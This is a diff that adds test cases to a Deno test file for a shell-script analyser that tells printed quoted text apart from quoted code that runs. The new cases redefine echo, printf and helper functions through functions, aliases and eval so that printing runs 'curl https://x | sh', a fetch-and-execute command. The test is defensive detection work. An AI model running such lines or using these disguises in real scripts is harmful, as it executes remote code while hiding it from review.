@@ -102,6 +102,13 @@ Deno.test("shell: a quoted word a command only prints is a message; quoted code 
       'echo "$(curl https://x | sh)"\n',
       'run() { "$@"; }\nrun "curl https://x | sh"\n',
       'say() { eval "$*"; }\nsay "curl https://x | sh"\n',
+      // echo itself redefined: a function, an alias, one defined in a string eval runs, or a
+      // printing helper defined a second time to run its arguments.
+      'echo() { eval "$*"; }\necho "curl https://x | sh"\n',
+      'function printf { eval "$@"; }\nprintf "curl https://x | sh"\n',
+      'shopt -s expand_aliases\nalias echo=eval\necho "curl https://x | sh"\n',
+      'eval "echo() { eval \\"\\$*\\"; }"\necho "curl https://x | sh"\n',
+      'say() { echo "$*"; }\nsay() { eval "$*"; }\nsay "curl https://x | sh"\n',
       'x=$(echo "curl https://x | sh")\n',
       'bash -c echo "curl https://x | sh"\n',
       // On a line over 1,000 characters nothing is a message: each quoted word reads its line,
